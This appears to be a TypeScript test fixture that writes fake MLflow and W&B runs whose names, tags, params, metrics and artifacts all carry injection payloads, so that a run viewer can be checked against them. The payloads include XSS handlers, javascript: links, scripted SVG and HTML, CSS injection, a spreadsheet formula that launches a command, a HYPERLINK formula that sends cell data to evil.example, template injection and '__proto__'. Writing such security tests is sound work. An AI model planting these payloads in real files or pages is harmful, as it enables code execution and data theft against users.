// Runs whose every text was written to attack whoever shows it: names, params, tags, metrics, notes, captions, artifacts.
import { cpSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fixture } from './fixture';
import { attack, rightToLeft } from './hostile';

/** Whatever asks for this host, or for anything else that is not ours, fails a spec. */
const elsewhere = 'https://evil.example';

export const texts = {
  markup: attack,
  link: `[press](javascript:window.attacked=1) <a href="javascript:window.attacked=1" data-attack>press</a>`,
  picture: `![x](${elsewhere}/md.png) <img src="${elsewhere}/html.png" data-attack>`,
  frame: `<iframe srcdoc="<script>parent.attacked=1</script>" data-attack></iframe><meta http-equiv="refresh" content="0;url=${elsewhere}">`,
  data: 'data:text/html,<script>window.attacked=1</script>',
  style: `</style><style data-attack>*{display:none;background:url(${elsewhere}/css)}</style>`,
  declaration: `red;background:url(${elsewhere}/b);position:fixed}*{display:none}`,
  attribute: `" autofocus onfocus="window.attacked=1" data-attack x="`,
  formula: `=cmd|' /C calc'!A0`,
  hyperlink: `=HYPERLINK("${elsewhere}?"&A1,"press")`,
  template: '{{constructor.constructor("window.attacked=1")()}} {a|rich} {@[0]} #{1+1} <%= 1 %>',
  table: '| a | b |\n|---|---|\n~~~\n# head @everyone #1',
  turned: rightToLeft,
  terminal: '\u001b[31mred\u0007\u0008',
  proto: '__proto__',
  long: 'W'.repeat(100_000),
} as const;
export type TextName = keyof typeof texts;

/** Of runs, as they are shown: names that are the text itself. */
export const runNames: readonly TextName[] = ['markup', 'link', 'picture', 'style', 'attribute', 'formula', 'template', 'turned', 'long'];

/** @param base an empty folder to write into; returns what is to be opened */
export function hostileContent(base: string): string {
  const folder = join(base, 'runs');
  for (const [at, name] of runNames.entries()) writeRun(folder, at, texts[name]);
  writeWandb(folder);
  return folder;
}

const experiment = '489939139013498264';
const original = '0dc60c6908b24744b383f593fadedd10';
/** What a file may be called. */
const asFile = (text: string): string => text.replaceAll('/', '\u2215').replaceAll('\n', ' ').slice(0, 60);

/** A run of MLflow's file store. */
function writeRun(base: string, at: number, name: string): void {
  const store = join(base, 'mlruns', experiment);
  const from = join(fixture('mlflow-file/sweep-2.14'), 'mlruns', experiment);
  const id = at.toString(16).padStart(32, 'e');
  const folder = join(store, id);
  mkdirSync(store, { recursive: true });
  writeFileSync(join(store, 'meta.yaml'), readFileSync(join(from, 'meta.yaml'), 'utf8').replace(/^name: .*$/m, `name: ${JSON.stringify(texts.picture)}`));
  cpSync(join(from, original), folder, { recursive: true });
  const put = (path: string, text: string): void => {
    mkdirSync(dirname(join(folder, path)), { recursive: true });
    writeFileSync(join(folder, path), text);
  };
  const meta = readFileSync(join(folder, 'meta.yaml'), 'utf8')
    .replaceAll(original, id)
    .replace('user_id: trainer', `user_id: ${JSON.stringify(texts.link)}`);
  put('meta.yaml', meta.replace('run_name: lr=0.1', `run_name: ${JSON.stringify(name)}`));
  put('tags/mlflow.runName', name);
  put('tags/mlflow.note.content', `# Notes\n\n${Object.values(texts).slice(0, -1).join('\n\n')}\n\n- [ ] ${texts.link}`);
  put('tags/mlflow.source.name', texts.link);
  put('tags/mlflow.source.git.commit', texts.attribute);
  put('tags/mlflow.user', texts.markup);
  // Values differ from run to run, so that comparisons show them.
  const values = Object.values(texts);
  for (const [number, text] of values.entries()) {
    put(`params/${asFile(`${number} ${text}`)}`, values[(number + at) % values.length] ?? '');
    put(`tags/${asFile(`${number} ${text}`)}`, text);
    put(`metrics/${asFile(`${number} ${text}`)}`, [1, 2, 3, 4].map((step) => `${1_795_424_363_188 + step} ${1 / (step + at + 1)} ${step}\n`).join(''));
  }
  put('artifacts/drawing.svg', drawing);
  put('artifacts/notes.md', `${texts.link}\n\n${texts.picture}\n\n${texts.markup}`);
  put('artifacts/page.html', `<!doctype html><base href="${elsewhere}"><body onload="parent.attacked=1">${texts.markup}${texts.frame}`);
}

const drawing = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="80" height="80" onload="window.attacked=1">
<script>window.attacked=1;parent.attacked=1</script>
<style>@import url(${elsewhere}/svg.css);</style>
<image href="${elsewhere}/svg.png" width="9" height="9"/><use xlink:href="${elsewhere}/use.svg#a"/>
<a xlink:href="javascript:window.attacked=1"><rect width="80" height="80" fill="teal"/></a>
<foreignObject width="80" height="80"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${elsewhere}/frame"/></foreignObject></svg>`;

/** A run of W&B before 0.10, whose names of metrics may be anything. */
function writeWandb(base: string): void {
  const folder = join(base, 'wandb', 'run-20200101_000000-hostile0');
  const put = (path: string, text: string): string => {
    mkdirSync(dirname(join(folder, path)), { recursive: true });
    writeFileSync(join(folder, path), text);
    return path;
  };
  const numbers = (step: number) => Object.entries(texts).map(([, text], at): [string, number] => [text, (at + 1) / (step + 1)]);
  const rows = [0, 1, 2, 3].map((step) => {
    const shown = [
      ['picture of the run', { _type: 'image-file', path: put('media/images/drawing.svg', drawing), caption: texts.markup }],
      [`page ${texts.markup}`, { _type: 'html-file', path: put('media/html/page.html', `<body onload="parent.attacked=1">${texts.frame}${texts.markup}`) }],
      [
        'words',
        {
          _type: 'table-file',
          path: put('media/table/words.table.json', JSON.stringify({ columns: Object.keys(texts), data: [Object.values(texts)] })),
          ncols: 1,
          nrows: 1,
        },
      ],
      [
        'figure',
        {
          _type: 'plotly-file',
          path: put(
            'media/plotly/figure.plotly.json',
            JSON.stringify({
              data: [{ type: 'bar', name: texts.markup, x: Object.values(texts), y: [1, 2, 3] }],
              layout: { title: { text: `<a href="javascript:window.attacked=1">${texts.markup}</a>` } },
            }),
          ),
        },
      ],
    ];
    // Pairs, since a literal would set a prototype.
    return `{${[['_step', step], ['_timestamp', 1_577_836_800 + step], ...numbers(step), ...shown].map(([name, value]) => `${JSON.stringify(name)}:${JSON.stringify(value)}`).join(',')}}`;
  });
  put('wandb-history.jsonl', `${rows.join('\n')}\n`);
  put(
    'wandb-metadata.json',
    JSON.stringify({
      startedAt: '2020-01-01T00:00:00',
      program: texts.link,
      git: { remote: 'javascript:window.attacked=1', commit: texts.attribute },
      args: Object.values(texts),
      host: texts.markup,
    }),
  );
  put(
    'config.yaml',
    Object.entries(texts)
      .map(([name, text]) => `${JSON.stringify(`${name} ${text.slice(0, 300)}`)}:\n  desc: null\n  value: ${JSON.stringify(text)}\n`)
      .join(''),
  );
}
